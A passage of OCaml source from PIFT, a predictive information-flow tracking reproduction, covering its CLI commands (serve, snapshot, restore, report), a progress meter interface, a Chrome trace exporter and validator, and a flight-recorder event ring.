             $(docv) in absolute terms never regress, whatever the \
             ratio — keeps sub-millisecond microbenchmark noise from \
             failing the gate.")
  in
  Cmd.v
    (Cmd.info "report"
       ~doc:
         "Render the snapshots of a previous run: metrics (span timings, \
          counters, gauges, histograms), flight-recorder trace summaries \
          (per-phase time, worker utilization, slowest spans), telemetry \
          time series (sparkline per metric), overhead-attribution \
          profiles (per-subsystem share), or provenance exports (per-sink \
          flow and attribution summaries).  With $(b,--diff), compare two \
          metrics/bench files and gate on regressions.")
    Term.(const report $ path $ second $ diff $ max_ratio $ min_abs)

(* --- trace-stats --- *)

let trace_stats name =
  let app = find_app name in
  let recorded = Recorded.record app in
  let stats = Pift_eval.Tracestats.analyse recorded in
  Pift_eval.Tracestats.render_fig2 stats Format.std_formatter ()

let trace_stats_cmd =
  let app_arg =
    Arg.(
      required
      & pos 0 (some string) None
      & info [] ~docv:"APP" ~doc:"Application to trace.")
  in
  Cmd.v
    (Cmd.info "trace-stats"
       ~doc:"Load/store distance distributions of one app's trace (Fig. 2).")
    Term.(const trace_stats $ app_arg)

(* --- serve --- *)

module Service = Pift_service

(* One block per tenant, identical bytes whether produced by the
   sharded engine or by isolated replays — the CI determinism leg
   [cmp]s the two, so everything else (engine stats, progress) goes to
   stderr. *)
let print_tenant_block ~name ~prov verdicts (s : Tracker.stats) =
  Printf.printf "tenant %s\n" name;
  List.iter
    (fun (kind, flagged, origins) ->
      Printf.printf "  sink %-6s -> %s%s\n" kind
        (if flagged then "TAINTED" else "clean")
        (if prov && origins <> [] then
           " [" ^ String.concat ", " origins ^ "]"
         else ""))
    verdicts;
  Printf.printf
    "  stats: %d events, %d taint ops, %d untaint ops, %d lookups, max %d \
     tainted bytes, %d ranges\n"
    s.Tracker.events s.Tracker.taint_ops s.Tracker.untaint_ops
    s.Tracker.lookups s.Tracker.max_tainted_bytes s.Tracker.max_ranges

(* Per-tenant blocks for a list of engine pids, in the given order.
   Shared by serve (source order) and restore (snapshot order); the
   crash-recovery CI leg [cmp]s this output between an interrupted and
   an uninterrupted serve, so it must depend only on tenant state. *)
let print_tenant_blocks eng ~prov pids =
  List.iter
    (fun pid ->
      match Service.Admin.snapshot_tenant eng ~pid with
      | None -> ()
      | Some ts ->
          print_tenant_block ~name:ts.Service.Admin.ts_name ~prov
            (List.map
               (fun (v : Service.Admin.verdict) ->
                 (v.Service.Admin.v_kind, v.Service.Admin.v_flagged,
                  v.Service.Admin.v_origins))
               ts.Service.Admin.ts_verdicts)
            ts.Service.Admin.ts_stats)
    pids

let print_engine_stats eng shards =
  let st = Service.Admin.stats eng in
  Printf.eprintf
    "engine: %d shard(s), %d tenant(s), %d items (%d events), %d batches, \
     %d dropped\n"
    shards
    (List.length (Service.Admin.tenants eng))
    st.Service.Admin.st_items st.Service.Admin.st_events
    st.Service.Admin.st_batches st.Service.Admin.st_dropped

let snapshot_file dir = Filename.concat dir "engine.piftsnap"

(* Crash injection for the recovery CI leg: SIGKILL ourselves right
   after writing the Nth snapshot.  A self-delivered SIGKILL is a real
   crash — nothing is flushed, no cleanup runs — landing at the
   adversarial point where the snapshot exists on disk but everything
   the engine did afterwards is lost. *)
let crash_after_snapshots =
  match Sys.getenv_opt "PIFT_CRASH_AFTER_SNAPSHOTS" with
  | Some s -> int_of_string_opt s
  | None -> None

(* Run the engine over [sources], snapshotting at every engine-idle
   segment boundary when a snapshot directory is configured, then print
   the tenant blocks in source order. *)
let serve_engine eng ~prov ~shards ~snapshot_dir ~snapshot_every sources =
  let segment = if snapshot_dir = None then None else snapshot_every in
  let snapshots = ref 0 in
  let on_idle =
    Option.map
      (fun dir () ->
        Service.Admin.save_snapshot
          ~sources:(Service.Snapshot.source_entries sources)
          eng (snapshot_file dir);
        incr snapshots;
        match crash_after_snapshots with
        | Some n when !snapshots >= n ->
            Unix.kill (Unix.getpid ()) Sys.sigkill
        | _ -> ())
      snapshot_dir
  in
  Service.Ingest.run ?segment ?on_idle eng sources;
  print_tenant_blocks eng ~prov
    (List.map (fun (s : Service.Ingest.source) -> s.Service.Ingest.src_pid)
       sources);
  print_engine_stats eng shards

let serve files shards isolated prov ni nt untaint backend batch queue drop
    snapshot_dir snapshot_every restore =
  let policy = policy_of ni nt untaint in
  if isolated then
    List.iter
      (fun path ->
        let r = Pift_eval.Trace_io.load path in
        let rp = Recorded.replay ~backend ~policy ~with_origins:prov r in
        let verdicts =
          if prov then
            List.map
              (fun (ov : Recorded.origin_verdict) ->
                (ov.Recorded.ov_kind, ov.Recorded.ov_flagged,
                 ov.Recorded.ov_origins))
              rp.Recorded.origins
          else
            List.map
              (fun (v : Recorded.verdict) -> (v.Recorded.kind, v.Recorded.flagged, []))
              rp.Recorded.verdicts
        in
        print_tenant_block ~name:r.Recorded.name ~prov verdicts
          rp.Recorded.stats)
      files
  else if restore then begin
    (* Resume a killed serve: engine config comes from the snapshot
       manifest (a mismatched policy/backend would diverge from the
       uninterrupted run — only the shard count is free), tenants are
       restored, and each source re-opens at its recorded cursor.
       Stdout is then byte-identical to a run that was never killed. *)
    let dir =
      match snapshot_dir with
      | Some d -> d
      | None -> failwith "serve: --restore requires --snapshot-dir"
    in
    if files <> [] then
      failwith "serve: --restore reads its sources from the snapshot; drop \
                the FILE arguments";
    let snap = Service.Snapshot.load (snapshot_file dir) in
    let m = snap.Service.Snapshot.manifest in
    let mprov = m.Service.Snapshot.m_with_origins in
    Service.Engine.with_engine ~shards ~policy:m.Service.Snapshot.m_policy
      ~backend:m.Service.Snapshot.m_backend ~queue_capacity:queue ~batch
      ~pid_range:m.Service.Snapshot.m_pid_range ~drop_when_full:drop
      ~with_origins:mprov (fun eng ->
        Service.Snapshot.restore_tenants eng snap;
        let sources =
          List.map
            (fun (se : Service.Snapshot.source_entry) ->
              if se.Service.Snapshot.se_path = "" then
                failwith
                  (Printf.sprintf
                     "serve: snapshot source %s has no file to resume from"
                     se.Service.Snapshot.se_name);
              let s =
                Service.Ingest.of_file ~pid:se.Service.Snapshot.se_pid
                  se.Service.Snapshot.se_path
              in
              Service.Ingest.skip s se.Service.Snapshot.se_cursor;
              s)
            snap.Service.Snapshot.sources
        in
        serve_engine eng ~prov:mprov ~shards ~snapshot_dir ~snapshot_every
          sources)
  end
  else begin
    if files = [] then failwith "serve: no trace files given";
    Service.Engine.with_engine ~shards ~policy ~backend ~queue_capacity:queue
      ~batch ~drop_when_full:drop ~with_origins:prov (fun eng ->
        let sources =
          List.mapi
            (fun i path ->
              Service.Ingest.of_file ~pid:(Service.Ingest.tenant_pid i) path)
            files
        in
        serve_engine eng ~prov ~shards ~snapshot_dir ~snapshot_every sources)
  end

let serve_cmd =
  let files =
    Arg.(
      value
      & pos_all file []
      & info [] ~docv:"FILE"
          ~doc:"Trace files from record-trace (text or binary), one tenant \
                each.  Omitted with $(b,--restore): sources come from the \
                snapshot.")
  in
  let shards =
    let doc =
      "Shard count.  Tenants are partitioned across shards by pid range; \
       per-tenant output is byte-identical at every shard count."
    in
    Arg.(value & opt int 1 & info [ "shards" ] ~docv:"N" ~doc)
  in
  let isolated =
    let doc =
      "Bypass the engine: replay each trace in isolation and print the \
       same per-tenant blocks — the reference the sharded engine is \
       byte-compared against."
    in
    Arg.(value & flag & info [ "isolated" ] ~doc)
  in
  let prov =
    let doc =
      "Thread a provenance sidecar through every tenant: sink lines gain \
       their origin sets."
    in
    Arg.(value & flag & info [ "prov" ] ~doc)
  in
  let batch =
    let doc = "Items per queue batch." in
    Arg.(value & opt int 128 & info [ "batch" ] ~docv:"N" ~doc)
  in
  let queue =
    let doc = "Shard queue capacity, in batches." in
    Arg.(value & opt int 64 & info [ "queue" ] ~docv:"N" ~doc)
  in
  let drop =
    let doc =
      "Drop batches instead of blocking the producer when a shard queue is \
       full (lossy; dropped items are reported on stderr)."
    in
    Arg.(value & flag & info [ "drop-when-full" ] ~doc)
  in
  let snapshot_dir =
    let doc =
      "Write a PIFTSNAP1 snapshot of all tenant state (and ingest \
       cursors) to $(docv)/engine.piftsnap at every snapshot point.  \
       Writes are atomic, so a crash always leaves a complete snapshot."
    in
    Arg.(
      value
      & opt (some string) None
      & info [ "snapshot-dir" ] ~docv:"DIR" ~doc)
  in
  let snapshot_every =
    let doc =
      "Snapshot after every $(docv) ingested items (and once at the end).  \
       Without this, $(b,--snapshot-dir) snapshots only at the end."
    in
    Arg.(
      value & opt (some int) None & info [ "snapshot-every" ] ~docv:"N" ~doc)
  in
  let restore =
    let doc =
      "Resume from $(b,--snapshot-dir)'s snapshot: restore every tenant, \
       re-open each source at its recorded cursor, and continue.  Engine \
       policy/backend/origins come from the snapshot manifest (only \
       $(b,--shards) is free); stdout is byte-identical to a run that \
       was never interrupted."
    in
    Arg.(value & flag & info [ "restore" ] ~doc)
  in
  Cmd.v
    (Cmd.info "serve"
       ~doc:
         "Ingest several recorded traces as tenants of one long-lived \
          sharded engine and print each tenant's verdicts and stats.  \
          Per-tenant stdout is byte-identical to $(b,--isolated) replays \
          at any $(b,--shards) count.")
    Term.(
      const serve $ files $ shards $ isolated $ prov $ ni $ nt $ untaint
      $ store_backend $ batch $ queue $ drop $ snapshot_dir $ snapshot_every
      $ restore)

let snapshot_inspect path =
  let snap = Service.Snapshot.load path in
  let m = snap.Service.Snapshot.manifest in
  Printf.printf
    "snapshot: %d shard(s), pid-range %d, backend %s, policy %s, origins %s\n"
    m.Service.Snapshot.m_shards m.Service.Snapshot.m_pid_range
    (Pift_core.Store.backend_to_string m.Service.Snapshot.m_backend)
    (Policy.to_string m.Service.Snapshot.m_policy)
    (if m.Service.Snapshot.m_with_origins then "on" else "off");
  List.iter
    (fun (se : Service.Snapshot.source_entry) ->
      Printf.printf "source %s pid %d cursor %d%s\n"
        se.Service.Snapshot.se_name se.Service.Snapshot.se_pid
        se.Service.Snapshot.se_cursor
        (if se.Service.Snapshot.se_path = "" then ""
         else " path " ^ se.Service.Snapshot.se_path))
    snap.Service.Snapshot.sources;
  List.iter
    (fun (tp : Service.Admin.tenant_persisted) ->
      let st = tp.Service.Admin.tp_state in
      let ranges =
        List.concat_map snd st.Tracker.p_store |> List.length
      in
      let bytes =
        List.concat_map snd st.Tracker.p_store
        |> List.fold_left (fun a r -> a + Pift_util.Range.length r) 0
      in
      Printf.printf
        "tenant %s pid %d: %d verdicts, %d events, %d tainted bytes, %d \
         ranges\n"
        tp.Service.Admin.tp_name tp.Service.Admin.tp_pid
        (List.length tp.Service.Admin.tp_verdicts)
        st.Tracker.p_stats.Tracker.events bytes ranges)
    snap.Service.Snapshot.tenants

let snapshot_cmd =
  let path =
    Arg.(
      required
      & pos 0 (some file) None
      & info [] ~docv:"SNAP" ~doc:"A PIFTSNAP1 snapshot file.")
  in
  Cmd.v
    (Cmd.info "snapshot"
       ~doc:
         "Inspect a PIFTSNAP1 snapshot: manifest, per-source ingest \
          cursors, and a one-line summary of each persisted tenant.")
    Term.(const snapshot_inspect $ path)

let restore_run path shards =
  let snap = Service.Snapshot.load path in
  let m = snap.Service.Snapshot.manifest in
  let shards =
    match shards with Some n -> n | None -> m.Service.Snapshot.m_shards
  in
  let prov = m.Service.Snapshot.m_with_origins in
  Service.Engine.with_engine ~shards ~policy:m.Service.Snapshot.m_policy
    ~backend:m.Service.Snapshot.m_backend
    ~pid_range:m.Service.Snapshot.m_pid_range ~with_origins:prov (fun eng ->
      Service.Snapshot.restore_tenants eng snap;
      print_tenant_blocks eng ~prov
        (List.map
           (fun (tp : Service.Admin.tenant_persisted) ->
             tp.Service.Admin.tp_pid)
           snap.Service.Snapshot.tenants);
      print_engine_stats eng shards)

let restore_cmd =
  let path =
    Arg.(
      required
      & pos 0 (some file) None
      & info [] ~docv:"SNAP" ~doc:"A PIFTSNAP1 snapshot file.")
  in
  let shards =
    let doc =
      "Shard count for the restored engine (default: the snapshot's)."
    in
    Arg.(value & opt (some int) None & info [ "shards" ] ~docv:"N" ~doc)
  in
  Cmd.v
    (Cmd.info "restore"
       ~doc:
         "Restore a snapshot into a fresh engine and print every tenant's \
          verdict and stats block, without resuming ingestion — the \
          snapshotted state, rendered exactly as $(b,serve) would.")
    Term.(const restore_run $ path $ shards)

let main_cmd =
  let doc = "PIFT: predictive information-flow tracking (ASPLOS'16 reproduction)" in
  Cmd.group
    (Cmd.info "pift" ~version:"1.0.0" ~doc)
    [
      list_apps_cmd;
      run_app_cmd;
      why_cmd;
      sweep_cmd;
      experiment_cmd;
      trace_stats_cmd;
      advise_cmd;
      record_trace_cmd;
      analyze_trace_cmd;
      convert_cmd;
      serve_cmd;
      snapshot_cmd;
      restore_cmd;
      report_cmd;
    ]

let () = exit (Cmd.eval main_cmd)
