(** Live progress line on stderr for long sweeps.

    Rewrites one status line in place ([label]: done/total, rate, ETA).
    Everything goes to stderr — stdout stays byte-identical whether
    progress is on or off — and reporting defaults to enabled only when
    stderr is a tty.  [step] is safe to call from any worker domain. *)

type t

val create : ?enabled:bool -> label:string -> total:int -> unit -> t
(** [?enabled] defaults to [Unix.isatty Unix.stderr]. *)

val step : t -> unit
(** Count one unit done; repaints at most every 0.1 s. *)

val finish : t -> unit
(** Final repaint plus a newline, leaving the line in scrollback. *)
