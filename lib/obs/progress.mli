(** Live progress line on stderr for long sweeps.

    On a terminal: one status line rewritten in place ([label]:
    done/total, rate, ETA).  Off a terminal, an {e explicitly} enabled
    meter ([~enabled:true], the CLI's [--progress]) degrades to plain
    newline-terminated log lines — one every [log_every] steps — so CI
    logs don't accumulate carriage-return spam.  Everything goes to
    stderr — stdout stays byte-identical whether progress is on or
    off — and reporting defaults to enabled only when stderr is a tty.
    [step] is safe to call from any worker domain. *)

type t

val default_log_every : int
(** 25 steps between non-tty log lines. *)

val create :
  ?enabled:bool -> ?log_every:int -> label:string -> total:int -> unit -> t
(** [?enabled] defaults to [Unix.isatty Unix.stderr].  When enabled on
    a tty the meter repaints live; when forced on without a tty it logs
    a line every [log_every] (default {!default_log_every}) steps
    instead. *)

val step : t -> unit
(** Count one unit done; repaints at most every 0.1 s (tty) or logs
    every [log_every] steps (non-tty). *)

val finish : t -> unit
(** Final repaint plus a newline (tty) or a final log line (non-tty),
    leaving the last state in scrollback. *)
