(* Chrome trace-event / Perfetto JSON export of a merged timeline, plus
   the decoder side: a structural validator (used by tests and CI) and a
   human summary for `pift report`.

   Format reference: the "Trace Event Format" JSON consumed by
   chrome://tracing and ui.perfetto.dev — an object with a
   ["traceEvents"] array of {name, ph, pid, tid, ts, ...} records, [ts]
   in microseconds.  We emit duration events ([B]/[E]), instants ([i])
   and counter samples ([C]), one [tid] per pool worker slot, plus
   [M]etadata records naming the process and threads. *)

exception Invalid of string

let pid = 1

let us ts = ts *. 1e6

let meta_event ~name ~tid ~value =
  Json.Obj
    [
      ("name", Json.String name);
      ("ph", Json.String "M");
      ("pid", Json.Int pid);
      ("tid", Json.Int tid);
      ("args", Json.Obj [ ("name", Json.String value) ]);
    ]

let base ~name ~ph ~tid ~ts rest =
  Json.Obj
    ([
       ("name", Json.String name);
       ("ph", Json.String ph);
       ("pid", Json.Int pid);
       ("tid", Json.Int tid);
       ("ts", Json.Float (us ts));
     ]
    @ rest)

(* One track's events, with the B/E imbalance a wrapped ring can leave
   repaired: an [End] with no open span (its [Begin] was overwritten) is
   dropped, and spans still open when the ring stops are closed at the
   track's final timestamp — so every emitted track is balanced by
   construction, whatever survived the wrap. *)
let events_of_track (tr : Timeline.track) =
  let out = ref [] in
  let emit j = out := j :: !out in
  let open_rev = ref [] in
  let last_ts = ref 0. in
  List.iter
    (fun (e : Flight.event) ->
      last_ts := e.Flight.ts;
      match e.Flight.kind with
      | Flight.Begin ->
          open_rev := e.Flight.name :: !open_rev;
          emit (base ~name:e.Flight.name ~ph:"B" ~tid:tr.Timeline.tid
                  ~ts:e.Flight.ts [])
      | Flight.End -> (
          match !open_rev with
          | [] -> ()  (* matching Begin lost to wrap-around *)
          | name :: rest ->
              open_rev := rest;
              emit (base ~name ~ph:"E" ~tid:tr.Timeline.tid ~ts:e.Flight.ts []))
      | Flight.Instant ->
          emit
            (base ~name:e.Flight.name ~ph:"i" ~tid:tr.Timeline.tid
               ~ts:e.Flight.ts
               [ ("s", Json.String "t") ])
      | Flight.Sample ->
          emit
            (base ~name:e.Flight.name ~ph:"C" ~tid:tr.Timeline.tid
               ~ts:e.Flight.ts
               [ ("args", Json.Obj [ ("value", Json.Float e.Flight.value) ]) ]))
    tr.Timeline.events;
  List.iter
    (fun name -> emit (base ~name ~ph:"E" ~tid:tr.Timeline.tid ~ts:!last_ts []))
    !open_rev;
  List.rev !out

let json ?(run = "pift") timeline =
  let tracks = Timeline.tracks timeline in
  let metadata =
    meta_event ~name:"process_name" ~tid:0 ~value:run
    :: List.map
         (fun (tr : Timeline.track) ->
           meta_event ~name:"thread_name" ~tid:tr.Timeline.tid
             ~value:(Printf.sprintf "worker %d" tr.Timeline.tid))
         tracks
  in
  let events = List.concat_map events_of_track tracks in
  let dropped = Timeline.dropped timeline in
  Json.Obj
    ([
       ("traceEvents", Json.List (metadata @ events));
       ("displayTimeUnit", Json.String "ms");
       ("pift_dropped_events", Json.Int dropped);
     ]
    @
    (* Per-ring drop counters, only when something was actually lost so
       drop-free traces keep their historical byte layout. *)
    if dropped = 0 then []
    else
      [
        ( "pift_dropped_by_track",
          Json.List
            (List.filter_map
               (fun (tr : Timeline.track) ->
                 if tr.Timeline.dropped = 0 then None
                 else
                   Some
                     (Json.Obj
                        [
                          ("tid", Json.Int tr.Timeline.tid);
                          ("dropped", Json.Int tr.Timeline.dropped);
                        ]))
               tracks) );
      ])

let write oc ?run timeline =
  output_string oc (Json.to_string (json ?run timeline));
  output_char oc '\n'

(* --- validation --------------------------------------------------------- *)

type check = {
  c_tracks : int;
  c_events : int;
  c_spans : int;
  c_instants : int;
  c_samples : int;
  c_flows : int;
  c_counter_names : string list;
}

let fail fmt = Printf.ksprintf (fun s -> raise (Invalid s)) fmt

let get_str what j name =
  match Option.bind (Json.member name j) Json.to_str with
  | Some s -> s
  | None -> fail "%s: missing string %S" what name

let get_int what j name =
  match Option.bind (Json.member name j) Json.to_int with
  | Some i -> i
  | None -> fail "%s: missing int %S" what name

let get_float what j name =
  match Option.bind (Json.member name j) Json.to_float with
  | Some f -> f
  | None -> fail "%s: missing number %S" what name

let validate_exn j =
  let events =
    match Option.bind (Json.member "traceEvents" j) Json.to_list with
    | Some l -> l
    | None -> fail "trace: missing traceEvents array"
  in
  (* per-tid running state: (last ts, open B/E depth) *)
  let tids : (int, float ref * int ref) Hashtbl.t = Hashtbl.create 8 in
  let state tid =
    match Hashtbl.find_opt tids tid with
    | Some s -> s
    | None ->
        let s = (ref (-1.), ref 0) in
        Hashtbl.add tids tid s;
        s
  in
  let named_tracks = ref 0 in
  let n_events = ref 0 and n_spans = ref 0 in
  let n_instants = ref 0 and n_samples = ref 0 in
  let n_flows = ref 0 in
  let counters = Hashtbl.create 8 in
  List.iteri
    (fun i ev ->
      let what = Printf.sprintf "traceEvents[%d]" i in
      let ph = get_str what ev "ph" in
      ignore (get_int what ev "pid");
      let tid = get_int what ev "tid" in
      if String.equal ph "M" then begin
        if String.equal (get_str what ev "name") "thread_name" then
          incr named_tracks
      end
      else begin
        incr n_events;
        let ts = get_float what ev "ts" in
        if ts < 0. then fail "%s: negative ts %g" what ts;
        let last_ts, depth = state tid in
        if ts < !last_ts then
          fail "%s: ts %g goes backwards on tid %d (last %g)" what ts tid
            !last_ts;
        last_ts := ts;
        match ph with
        | "B" ->
            ignore (get_str what ev "name");
            incr depth;
            incr n_spans
        | "E" ->
            if !depth <= 0 then fail "%s: E without open B on tid %d" what tid;
            decr depth
        | "i" -> incr n_instants
        | "C" ->
            Hashtbl.replace counters (get_str what ev "name") ();
            incr n_samples
        | "s" | "t" | "f" ->
            (* flow events (provenance edges) bind by name + id *)
            ignore (get_str what ev "name");
            ignore (get_int what ev "id");
            incr n_flows
        | other -> fail "%s: unknown phase %S" what other
      end)
    events;
  Hashtbl.iter
    (fun tid (_, depth) ->
      if !depth <> 0 then fail "tid %d: %d unclosed B span(s)" tid !depth)
    tids;
  {
    c_tracks = !named_tracks;
    c_events = !n_events;
    c_spans = !n_spans;
    c_instants = !n_instants;
    c_samples = !n_samples;
    c_flows = !n_flows;
    c_counter_names =
      List.sort String.compare
        (Hashtbl.fold (fun k () acc -> k :: acc) counters []);
  }

let validate j =
  match validate_exn j with
  | check -> Ok check
  | exception Invalid msg -> Error msg

let is_trace j = Json.member "traceEvents" j <> None

(* --- summary ------------------------------------------------------------ *)

(* Group span names into phases: everything before the first '(' or ':'
   ("cell(13,3)" -> "cell", "record:LGRoot" -> "record"). *)
let phase_of name =
  let cut = ref (String.length name) in
  String.iteri
    (fun i c -> if (c = '(' || c = ':') && i < !cut then cut := i)
    name;
  String.sub name 0 !cut

type closed_span = { sp_name : string; sp_tid : int; sp_ms : float }

(* Reconstruct completed spans per tid; also per-tid busy time (sum of
   top-level span durations) for the utilization table. *)
let spans_of_trace j =
  let events =
    Option.value ~default:[]
      (Option.bind (Json.member "traceEvents" j) Json.to_list)
  in
  let stacks : (int, (string * float) list ref) Hashtbl.t = Hashtbl.create 8 in
  let stack tid =
    match Hashtbl.find_opt stacks tid with
    | Some s -> s
    | None ->
        let s = ref [] in
        Hashtbl.add stacks tid s;
        s
  in
  let busy : (int, float ref) Hashtbl.t = Hashtbl.create 8 in
  let closed = ref [] in
  List.iter
    (fun ev ->
      match Option.bind (Json.member "ph" ev) Json.to_str with
      | Some "B" ->
          let tid = Option.value ~default:0 (Option.bind (Json.member "tid" ev) Json.to_int) in
          let ts = Option.value ~default:0. (Option.bind (Json.member "ts" ev) Json.to_float) in
          let name =
            Option.value ~default:"?"
              (Option.bind (Json.member "name" ev) Json.to_str)
          in
          let s = stack tid in
          s := (name, ts) :: !s
      | Some "E" -> (
          let tid = Option.value ~default:0 (Option.bind (Json.member "tid" ev) Json.to_int) in
          let ts = Option.value ~default:0. (Option.bind (Json.member "ts" ev) Json.to_float) in
          let s = stack tid in
          match !s with
          | [] -> ()
          | (name, t0) :: rest ->
              s := rest;
              let ms = (ts -. t0) /. 1000. in
              closed := { sp_name = name; sp_tid = tid; sp_ms = ms } :: !closed;
              if rest = [] then begin
                let b =
                  match Hashtbl.find_opt busy tid with
                  | Some b -> b
                  | None ->
                      let b = ref 0. in
                      Hashtbl.add busy tid b;
                      b
                in
                b := !b +. ms
              end)
      | _ -> ())
    events;
  (List.rev !closed, busy)

let bounds_of_trace j =
  let events =
    Option.value ~default:[]
      (Option.bind (Json.member "traceEvents" j) Json.to_list)
  in
  List.fold_left
    (fun acc ev ->
      match
        ( Option.bind (Json.member "ph" ev) Json.to_str,
          Option.bind (Json.member "ts" ev) Json.to_float )
      with
      | Some "M", _ | _, None -> acc
      | _, Some ts -> (
          match acc with
          | None -> Some (ts, ts)
          | Some (lo, hi) -> Some (min lo ts, max hi ts)))
    None events

let summarize j ppf () =
  let check = validate_exn j in
  let closed, busy = spans_of_trace j in
  let wall_ms =
    match bounds_of_trace j with
    | Some (lo, hi) -> (hi -. lo) /. 1000.
    | None -> 0.
  in
  let dropped =
    Option.value ~default:0
      (Option.bind (Json.member "pift_dropped_events" j) Json.to_int)
  in
  Format.fprintf ppf "@[<v>== trace summary ==@,";
  Format.fprintf ppf
    "worker tracks: %d@,events: %d (%d spans, %d instants, %d counter \
     samples%s)@,wall clock: %.1f ms@,"
    check.c_tracks check.c_events check.c_spans check.c_instants
    check.c_samples
    ((if check.c_flows > 0 then
        Printf.sprintf ", %d flow events" check.c_flows
      else "")
    ^
    if dropped > 0 then Printf.sprintf ", %d dropped to wrap-around" dropped
    else "")
    wall_ms;
  if check.c_counter_names <> [] then
    Format.fprintf ppf "counter tracks: %s@,"
      (String.concat ", " check.c_counter_names);
  if dropped > 0 then begin
    (* Dropped events mean the rings wrapped: the summary below only
       covers what survived, so say so loudly rather than inline. *)
    let by_track =
      match
        Option.bind (Json.member "pift_dropped_by_track" j) Json.to_list
      with
      | None -> ""
      | Some tracks ->
          let one tr =
            match
              ( Option.bind (Json.member "tid" tr) Json.to_int,
                Option.bind (Json.member "dropped" tr) Json.to_int )
            with
            | Some tid, Some d -> Some (Printf.sprintf "tid %d: %d" tid d)
            | _ -> None
          in
          let parts = List.filter_map one tracks in
          if parts = [] then ""
          else Printf.sprintf " (%s)" (String.concat ", " parts)
    in
    Format.fprintf ppf
      "warning: %d event(s) dropped to ring wrap-around%s — the oldest \
       history is gone; raise the ring capacity@,"
      dropped by_track
  end;
  (* per-phase totals *)
  let phases = Hashtbl.create 8 in
  List.iter
    (fun sp ->
      let key = phase_of sp.sp_name in
      let n, total, mx =
        Option.value ~default:(0, 0., 0.) (Hashtbl.find_opt phases key)
      in
      Hashtbl.replace phases key (n + 1, total +. sp.sp_ms, max mx sp.sp_ms))
    closed;
  let rows =
    List.sort
      (fun (_, (_, a, _)) (_, (_, b, _)) -> compare (b : float) a)
      (Hashtbl.fold (fun k v acc -> (k, v) :: acc) phases [])
  in
  if rows <> [] then begin
    Format.fprintf ppf "@,%-16s %8s %12s %12s %12s@," "phase" "spans"
      "total ms" "mean ms" "max ms";
    List.iter
      (fun (key, (n, total, mx)) ->
        Format.fprintf ppf "%-16s %8d %12.2f %12.3f %12.3f@," key n total
          (total /. float_of_int n)
          mx)
      rows
  end;
  (* per-worker utilization *)
  let tids =
    List.sort compare (Hashtbl.fold (fun tid _ acc -> tid :: acc) busy [])
  in
  if tids <> [] then begin
    Format.fprintf ppf "@,%-10s %12s %12s@," "worker" "busy ms" "utilization";
    List.iter
      (fun tid ->
        let b = !(Hashtbl.find busy tid) in
        Format.fprintf ppf "%-10d %12.2f %11.1f%%@," tid b
          (if wall_ms > 0. then 100. *. b /. wall_ms else 0.))
      tids
  end;
  (* slowest spans *)
  let slowest =
    List.filteri
      (fun i _ -> i < 8)
      (List.sort (fun a b -> compare b.sp_ms a.sp_ms) closed)
  in
  if slowest <> [] then begin
    Format.fprintf ppf "@,slowest spans:@,";
    List.iter
      (fun sp ->
        Format.fprintf ppf "  %-28s worker %d %10.3f ms@," sp.sp_name
          sp.sp_tid sp.sp_ms)
      slowest
  end;
  Format.fprintf ppf "@]@."
