(* A fixed-capacity ring of timestamped structured events.  One ring per
   pool worker slot: the writer is a single domain, so the hot path is
   lock-free — a handful of array stores and one clock read per event.
   Slots are preallocated parallel arrays (kind byte, name pointer,
   unboxed float timestamp and value), so recording allocates nothing.
   When the ring is full the oldest events are overwritten: a flight
   recorder keeps the newest history, not the first. *)

type kind = Begin | End | Instant | Sample

type event = { kind : kind; name : string; ts : float; value : float }

type t = {
  cap : int;
  kinds : Bytes.t;
  names : string array;
  tss : float array;
  values : float array;
  mutable next : int;  (* events ever written; slot = next mod cap *)
  mutable last_ts : float;  (* per-ring monotonic clamp *)
}

(* All rings share one process epoch so per-slot timelines merge onto a
   common time axis.  [Unix.gettimeofday] is clamped per ring to be
   non-decreasing, which is all the trace format needs. *)
let epoch = Unix.gettimeofday ()

let now () =
  let t = Unix.gettimeofday () -. epoch in
  if t > 0. then t else 0.

let default_capacity = 65536

let create ?(capacity = default_capacity) () =
  let cap = max 0 capacity in
  {
    cap;
    kinds = Bytes.make (max 1 cap) '\000';
    names = Array.make (max 1 cap) "";
    tss = Array.make (max 1 cap) 0.;
    values = Array.make (max 1 cap) 0.;
    next = 0;
    last_ts = 0.;
  }

let capacity t = t.cap

let kind_code = function Begin -> 0 | End -> 1 | Instant -> 2 | Sample -> 3

let kind_of_code = function
  | 0 -> Begin
  | 1 -> End
  | 2 -> Instant
  | _ -> Sample

let record t kind name value =
  if t.cap > 0 then begin
    let ts = now () in
    let ts = if ts >= t.last_ts then ts else t.last_ts in
    t.last_ts <- ts;
    let i = t.next mod t.cap in
    Bytes.unsafe_set t.kinds i (Char.unsafe_chr (kind_code kind));
    Array.unsafe_set t.names i name;
    Array.unsafe_set t.tss i ts;
    Array.unsafe_set t.values i value;
    t.next <- t.next + 1
  end

let begin_ t name = record t Begin name 0.
let end_ t name = record t End name 0.
let instant t name = record t Instant name 0.
let sample t name value = record t Sample name value

let length t = min t.next t.cap
let written t = t.next
let dropped t = max 0 (t.next - t.cap)

let clear t =
  t.next <- 0;
  t.last_ts <- 0.

let iter f t =
  if t.cap > 0 then
    for j = max 0 (t.next - t.cap) to t.next - 1 do
      let i = j mod t.cap in
      f
        {
          kind = kind_of_code (Char.code (Bytes.get t.kinds i));
          name = t.names.(i);
          ts = t.tss.(i);
          value = t.values.(i);
        }
    done

let events t =
  let acc = ref [] in
  iter (fun e -> acc := e :: !acc) t;
  List.rev !acc
