(** Snapshot renderers: JSON Lines, Prometheus text exposition, and a
    human Textplot summary — plus the inverse JSON readers that back
    [pift report]. *)

val snapshot_to_json :
  ?run:string -> ?spans:Span.t list -> Registry.sample list -> Json.t
(** One self-contained snapshot object: [{"run", "metrics", "spans"}].
    [run] is omitted when empty. *)

val write_jsonl : out_channel -> Json.t -> unit
(** Compact rendering plus a newline — one snapshot per line. *)

exception Malformed of string
(** Raised by the readers on structurally invalid snapshot JSON. *)

type file_kind =
  | Metrics_snapshot  (** has a ["metrics"] key — a [--metrics-out] line *)
  | Trace  (** has a ["traceEvents"] key — a [--trace-out] file *)
  | Flow_graph
      (** has a ["pift_flow_graph"] key — a provenance flow-graph export
          ([pift why --prov-out], [run-app --prov-out]); also carries
          ["traceEvents"], so this sniff must precede {!Trace} *)
  | Attribution
      (** has a ["pift_attribution"] key — a [sweep --prov-out] export *)
  | Telemetry
      (** has a ["pift_telemetry"] key — a [--telemetry-out] line
          (header or snapshot; see {!Telemetry.write_jsonl}) *)
  | Unknown of string list
      (** none of the above; carries the top-level keys seen, for the
          warning *)

val classify : Json.t -> file_kind
